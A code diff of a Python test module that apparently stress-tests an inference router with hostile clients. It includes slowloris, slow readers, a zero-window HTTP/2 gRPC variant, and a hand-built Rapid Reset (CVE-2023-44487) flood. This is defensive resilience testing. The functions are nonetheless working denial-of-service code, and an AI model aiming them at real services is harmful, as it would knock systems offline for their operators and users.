@@ -1,4 +1,4 @@
-"""Clients that mean harm, in a process of their own: `python -m router.testing_hostile ATTACK HTTP_PORT GRPC_PORT COUNT`.
+"""Clients that mean harm, in a process of their own: `python -m router.testing_hostile ATTACK HTTP_PORT GRPC_PORT N`.
 
 Prints what it saw as one line of JSON when the attack is made, holds its connections until its input ends, and then
 prints how many of them the router had closed.
@@ -63,7 +63,7 @@ async def cancel_storm(http_port: int, grpc_port: int, count: int) -> list[Conne
 
 
 async def slow_readers(http_port: int, grpc_port: int, count: int) -> list[Connection]:
-    """Ask for long answers and read nothing of them."""
+    """Ask for long answers and read nothing of them; a quarter by gRPC."""
     request = http_request(STREAM | {"logprobs": 20})
 
     async def one() -> Connection:
@@ -71,21 +71,25 @@ async def slow_readers(http_port: int, grpc_port: int, count: int) -> list[Conne
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         sock.setblocking(False)
         await asyncio.get_running_loop().sock_connect(sock, (HOST, http_port))
-        reader, writer = await asyncio.open_connection(sock=sock, limit=1)
+        reader, writer = await asyncio.open_connection(sock=sock)
         writer.transport.pause_reading()  # type: ignore[attr-defined]  # every socket's transport has it
         writer.write(request)
         return reader, writer
 
-    made = await _all(one, count)
-    channel = grpc.aio.insecure_channel(f"{HOST}:{grpc_port}")
-    sampling = pb.SamplingParams(max_tokens=1500, logprobs=20)
-    calls = [InferenceStub(channel).Generate(pb.GenerateRequest(prompt="x", sampling=sampling)) for _ in range(8)]
-    await asyncio.gather(*(call.read() for call in calls))
-    _KEPT.extend(calls)
-    return made
+    return await _all(one, count - count // 4) + [await _windowless(grpc_port, count // 4)]
 
 
-_KEPT: list[object] = []  # calls that end when nobody holds them
+async def _windowless(grpc_port: int, count: int) -> Connection:
+    """Calls whose answers may not be sent: the window of each is empty from the beginning, and stays so."""
+    reader, writer = await asyncio.open_connection(HOST, grpc_port)
+    no_window = struct.pack(">HI", 4, 0)
+    writer.write(_PREFACE + _frame(4, 0, 0, no_window) + _frame(4, 1, 0, b""))
+    writer.write(b"".join(_call(2 * number + 1) for number in range(count)))
+    await writer.drain()
+    return reader, writer
+
+
+_DRIPS: list[asyncio.Task[None]] = []
 
 
 async def idle(http_port: int, grpc_port: int, count: int) -> list[Connection]:
@@ -119,7 +123,7 @@ async def slowloris(http_port: int, grpc_port: int, count: int) -> list[Connecti
                 writer.write(more)
                 await asyncio.sleep(0.1)
 
-        _KEPT.append(asyncio.create_task(drip()))
+        _DRIPS.append(asyncio.create_task(drip()))
         return reader, writer
 
     head = b"POST /v1/completions HTTP/1.1\r\nhost: x\r\n"
@@ -139,23 +143,30 @@ def _header(name: bytes, value: bytes) -> bytes:
     return bytes([0, len(name)]) + name + bytes([len(value)]) + value
 
 
-async def rapid_reset(http_port: int, grpc_port: int, count: int) -> list[Connection]:
-    """CVE-2023-44487: streams that are reset as soon as they are open."""
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def _call(stream: int) -> bytes:
+    """Opens a stream with a whole request for a long answer."""
     head = b"".join(_header(*each) for each in (
         (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/tandem.v1.Inference/Generate"),
         (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
     ))  # fmt: skip
     message = pb.GenerateRequest(prompt="x", sampling=pb.SamplingParams(max_tokens=1500)).SerializeToString()
     data = b"\0" + struct.pack(">I", len(message)) + message
+    return _frame(1, 4, stream, head) + _frame(0, 1, stream, data)
+
+
+async def rapid_reset(http_port: int, grpc_port: int, count: int) -> list[Connection]:
+    """CVE-2023-44487: streams that are reset as soon as they are open."""
     made = []
     for _ in range(4):
         reader, writer = await asyncio.open_connection(HOST, grpc_port)
         made.append((reader, writer))
-        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+        writer.write(_PREFACE + _frame(4, 0, 0, b""))
         for number in range(count // 4):
             stream = 2 * number + 1
-            reset = _frame(3, 0, stream, struct.pack(">I", 8))
-            writer.write(_frame(1, 4, stream, head) + _frame(0, 1, stream, data) + reset)
+            writer.write(_call(stream) + _frame(3, 0, stream, struct.pack(">I", 8)))
             if number % 50 == 49:
                 try:
                     await writer.drain()
@@ -176,16 +187,17 @@ async def _all(one: Callable[[], Awaitable[Connection]], count: int) -> list[Con
 
 async def _is_closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
     """Reads all that came before."""
+    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
     writer.transport.resume_reading()  # type: ignore[attr-defined]
     try:
-        async with asyncio.timeout(0.5):
-            while await reader.read(1 << 16):
-                pass
+        while True:
+            async with asyncio.timeout(1.0):
+                if not await reader.read(1 << 16):
+                    return True
     except TimeoutError:
         return False
     except OSError:
-        pass
-    return True
+        return True
 
 
 ATTACKS = {each.__name__: each for each in (cancel_storm, slow_readers, idle, slowloris, rapid_reset)}
